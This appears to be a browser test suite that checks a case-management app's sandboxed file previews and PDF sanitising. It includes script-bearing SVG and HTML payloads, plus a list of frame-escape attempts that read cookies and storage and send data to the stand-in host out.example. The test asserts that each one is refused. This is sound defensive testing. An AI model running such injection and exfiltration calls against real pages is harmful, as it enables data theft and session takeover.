// Files of a case looked at in a closed frame: what is drawn, what cannot be, and what a file that took the frame over would reach.
import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { NEEDLES, photo, sound } from '../../web/test/pictures.mjs';
import { broken, paper, SAID } from '../../web/test/papers.mjs';
import { look, looked } from './look.mjs';
import * as does from './steps.mjs';
import { clean, visitor } from './watch.mjs';
import { webkit } from './webkit.mjs';
import { chromium, demo, firefox, tempDir, until } from './world.mjs';

const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>parent.document.title="taken"</script></svg>';
let dir;
let program;
let browser;
let desk;
const made = {};

before(async () => {
  dir = await tempDir('previews');
  program = await demo();
  browser = await chromium();
  const files = { 'photo.jpg': photo({ width: 400, height: 240 }), '書類.pdf': await paper(), 'memo.wav': sound(), 'drawing.png': Buffer.from(svg), 'page.jpg': Buffer.from('<!doctype html><script>parent.document.title="taken"</script>'), 'broken.pdf': broken, 'half.png': Buffer.from('\x89PNG\r\n\x1a\nhalf', 'latin1') };
  for (const [name, bytes] of Object.entries(files)) {
    made[name] = path.join(dir, name);
    await fs.writeFile(made[name], bytes);
  }
  const page = await visitor(browser);
  await does.opensForm(page, program);
  await does.writes(page, { words: '書類と録音があります。', people: '支所 係長' });
  await (await page.$('#files')).uploadFile(...Object.values(made));
  for (const name of Object.keys(made)) await until(() => page.$eval(`#files-list [data-name="${name}"]`, (row) => row.dataset.state === 'chosen'), `${name} chosen`);
  await does.sends(page, { leaveOut: [program.person('counsellor', 2).name] });
  for (const name of Object.keys(made)) await until(() => page.$eval(`#files-sending [data-name="${name}"]`, (row) => row.dataset.state === 'kept'), `${name} kept`);
  await page.context.close();
  desk = await visitor(browser, { width: 1280, height: 900 });
  const person = program.person('counsellor');
  await does.signsIn(desk, program, person);
  await does.unlocks(desk, person.passphrase);
  await does.opensCase(desk);
  await does.reads(desk);
});
after(async () => {
  await browser?.close();
  await program?.stop();
  await fs.rm(dir, { recursive: true, force: true });
});

/** The file's place in the story, by a mark of its own. */
async function placeOf(name) {
  return until(() => desk.evaluate((called) => {
    const place = [...document.querySelectorAll('#story [data-file]')].find((node) => node.innerText.includes(called) && node.querySelector('[data-look]'));
    if (place) place.dataset.place = called;
    return place && `[data-place="${called}"]`;
  }, name), `a place for ${name}`);
}

/** Presses "see it" and waits for the drawing, or for the sentence why there is none. */
async function sees(name) {
  const place = await placeOf(name);
  await does.press(desk, `${place} [data-look]`);
  await desk.waitForSelector(`${place} [data-drawn], ${place} [data-cannot]`);
  return place;
}

const drawn = async (place) => {
  await desk.waitForSelector(`${place} [data-drawn]`);
  const frame = await (await desk.$(`${place} iframe`)).contentFrame();
  await frame.waitForSelector('img, canvas, audio, video');
  return frame;
};

/** How many points of the drawing are not white. */
const ink = (frame) => frame.evaluate(() => {
  const canvas = document.querySelector('canvas');
  const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
  return data.filter((value, place) => place % 4 === 0 && value < 128).length;
});

test('a photograph, a recording and a PDF are drawn in a frame that asks for nothing', async () => {
  assert.ok(!desk.watched.requests.some((url) => /previews|papers|rewritten|desk\/look/.test(url)), 'nothing of it is fetched before it is asked for');
  const picture = await drawn(await sees('photo.jpg'));
  assert.deepEqual(await picture.evaluate(() => [document.images[0].naturalHeight, document.images[0].naturalWidth, document.images[0].alt, origin]), [400, 240, 'photo.jpg', 'null'], 'turned as the camera says');
  const player = await drawn(await sees('memo.wav'));
  assert.ok(await player.evaluate(() => { const { paused, controls, duration } = document.querySelector('audio'); return paused && controls && duration > 0; }), 'it waits for a press');
  const place = await sees('書類.pdf');
  const pages = await drawn(place);
  assert.ok(await ink(pages) > 1000, 'the first page');
  assert.match(await pages.$eval('canvas', (canvas) => canvas.textContent), /DRAWN HERE/);
  await look(desk, 'desk-preview-pdf');
  await does.press(desk, `${place} [data-tool="page-on"]`);
  await until(() => pages.$eval('canvas', (canvas) => canvas.textContent.includes('日本語')), 'Japanese without a font of its own');
  assert.ok(await ink(pages) > 1000, 'the second page');
  await does.press(desk, `${place} [data-tool="larger"]`);
  await does.press(desk, `${place} [data-tool="page-back"]`);
  await until(() => pages.$eval('canvas', (canvas) => canvas.textContent.includes('DRAWN')), 'the first page again');
  clean(desk, program.desk);
  const frames = desk.watched.requests.filter((url) => url.includes('/desk/look'));
  assert.equal(frames.length, 3, 'each frame asked for its page');
  const fetched = desk.watched.requests.filter((url) => /\/assets\/(papers|rewritten)/.test(url));
  assert.equal(fetched.length, 4, 'all that draws, once, with the first file whatever it was');
  await look(desk, 'desk-preview');
});

test('what cannot be drawn is said, and is saved as before', async () => {
  for (const name of ['drawing.png', 'page.jpg']) {
    const place = await sees(name);
    await desk.waitForSelector(`${place} [data-cannot="other"]`);
    await does.shows(desk, `${place} .preview`, '保存だけできます');
    assert.equal(await desk.$(`${place} iframe`), null, 'no frame was made of it');
  }
  for (const name of ['broken.pdf', 'half.png']) {
    const place = await sees(name);
    await desk.waitForSelector(`${place} [data-cannot="broken"]`);
    assert.ok(await desk.$(`${place} [data-save]`));
  }
  assert.notEqual(await desk.title(), 'taken');
  await look(desk, 'desk-preview-cannot');
});

test('a frame that a file took over reaches neither page, network, storage nor another address', async () => {
  const said = await desk.evaluate(async () => { const { headers } = await fetch('/desk/look'); return ['x-dns-prefetch-control', 'content-security-policy'].map((one) => headers.get(one)); });
  assert.equal(said[0], 'off');
  assert.match(said[1], /; webrtc 'block';/);
  const place = await placeOf('photo.jpg');
  const frame = await drawn(place);
  const before = desk.watched.requests.length;
  const tried = await frame.evaluate(async (home) => {
    const tries = {
      parent: () => parent.document.title,
      cookie: () => document.cookie,
      storage: () => localStorage.length,
      databases: () => new Promise((done, fail) => { const asked = indexedDB.open('x'); asked.onsuccess = done; asked.onerror = fail; }),
      fetched: () => fetch(`${home}/desk/api/me`, { credentials: 'include' }),
      abroad: () => fetch('https://out.example/'),
      pictured: () => new Promise((done, fail) => { const image = new Image(); image.onload = done; image.onerror = fail; image.src = `${home}/assets/x.png`; }),
      beacon: () => { if (!navigator.sendBeacon('https://out.example/', 'x')) throw new Error('no'); return new Promise((done, fail) => document.addEventListener('securitypolicyviolation', fail, { once: true })); },
      socket: () => new Promise((done, fail) => { const socket = new WebSocket('wss://out.example/'); socket.onopen = done; socket.onerror = fail; }),
      evaluated: () => (0, eval)('1'),
      worker: () => new Worker(`${home}/assets/x.js`),
      window: () => { if (!open('https://out.example/')) throw new Error('no'); },
      top: () => { top.location = 'https://out.example/'; },
    };
    const got = {};
    for (const [name, attempt] of Object.entries(tries)) got[name] = await Promise.resolve().then(attempt).then(() => 'reached', () => 'refused');
    return got;
  }, program.desk);
  assert.deepEqual([...new Set(Object.values(tried))], ['refused'], JSON.stringify(tried));
  await frame.evaluate(() => { location.href = 'https://out.example/?told'; }).catch(() => {});
  await until(() => desk.watched.violations.some((one) => one.startsWith('frame-src')), 'the page forbids where its frame goes');
  const asked = desk.watched.requests.slice(before).filter((url) => /out\.example|api\/me/.test(url));
  assert.deepEqual(asked, [], 'nothing left the browser');
  desk.watched.violations.length = 0;
  desk.watched.faults.length = 0;
});

test('a PDF is copied without what it says beside its pages', async () => {
  const original = await fs.readFile(made['書類.pdf']);
  for (const said of [...SAID, NEEDLES[1]]) assert.ok(says(original, said), `${said} stands in the paper`);
  const place = await placeOf('書類.pdf');
  await does.press(desk, `${place} [data-tool="clean"]`);
  await desk.waitForSelector(`${place} [data-copy]`);
  await does.shows(desk, `${place} [data-copies]`, 'ページに描かれているものは、そのまま残ります');
  assert.deepEqual(await desk.$$eval(`${place} [data-dropped]`, (all) => all.map((one) => one.dataset.dropped)), ['about', 'metadata', 'files', 'scripts', 'notes']);
  const copy = await (await desk.$(`${place} [data-copies] iframe`)).contentFrame();
  assert.match(await copy.$eval('canvas', (canvas) => canvas.textContent), /DRAWN HERE/);
  await look(desk, 'desk-preview-clean');
  await desk.$eval(`${place} [data-copy-save]`, (node) => node.setAttribute('id', 'save-copy'));
  const { bytes, name } = await does.downloaded(desk, '#save-copy');
  assert.equal(name, '書類-clean.pdf');
  const unpacked = await inflated(bytes);
  for (const said of [...SAID, ...NEEDLES]) assert.ok(!says(unpacked, said), `${said} is gone`);
  assert.ok(!/\/(Author|Creator|Producer|CreationDate|JavaScript|EmbeddedFiles|Annots|AcroForm|OpenAction)\b/.test(unpacked.toString('latin1')), 'nor a name of such');
  clean(desk, program.desk);
});

/** As written, or as PDF writes letters beyond ASCII. */
const says = (bytes, said) => bytes.includes(said) || bytes.includes(Buffer.from(said, 'utf16le').swap16().toString('hex').toUpperCase());

/** The file and all that is packed in it. */
async function inflated(bytes) {
  const { inflateSync } = await import('node:zlib');
  const all = [bytes];
  for (let at = 0; (at = bytes.indexOf('stream', at)) >= 0; at += 6) {
    const from = bytes[at + 6] === 13 ? at + 8 : at + 7;
    try { all.push(inflateSync(bytes.subarray(from), { finishFlush: 2 })); } catch { /* not packed */ }
  }
  return Buffer.concat(all);
}

/** A counsellor in another browser, with the PDF and the photograph drawn. */
async function draws(page) {
  const person = program.person('counsellor');
  await does.signsIn(page, program, person);
  await does.unlocks(page, person.passphrase);
  await does.opensCase(page);
  await does.reads(page);
  for (const [name, id] of [['photo.jpg', 'look-photo'], ['書類.pdf', 'look-pdf']]) {
    await until(() => page.evaluate((called, named) => {
      const place = [...document.querySelectorAll('#story [data-file]')].find((node) => node.innerText.includes(called) && node.querySelector('[data-look]'));
      place?.querySelector('[data-look]').setAttribute('id', named);
      return Boolean(place);
    }, name, id), name);
    await does.press(page, `#${id}`);
    await until(() => page.evaluate((named) => document.getElementById(named).closest('.saver').querySelector('[data-drawn], [data-cannot]')?.matches('[data-drawn]'), id), `${name} drawn`, 40);
  }
  assert.equal(await page.evaluate(() => document.querySelector('[data-kind="pdf"] [data-page]').innerText), '1 / 2 ページ');
}

test('Firefox draws them in such a frame', async () => {
  const other = await firefox();
  try {
    const page = await other.newPage();
    await page.setViewport({ width: 1280, height: 900 });
    await draws(page);
  } finally {
    await other.close();
  }
});

test('WebKit, which gives such a frame no worker, draws them all the same', async () => {
  const other = await webkit();
  try {
    await draws(other.page);
  } finally {
    await other.close();
  }
});

test('putting the key away takes every frame with it', async () => {
  await does.press(desk, '#put-away');
  await desk.waitForSelector('#passphrase', { visible: true });
  assert.equal((await desk.$$('iframe')).length, 0);
  await until(() => desk.frames().length === 1, 'no frame is left');
});

test('accessibility and width: axe finds nothing on any page above, and none is wider than 320 px', looked);
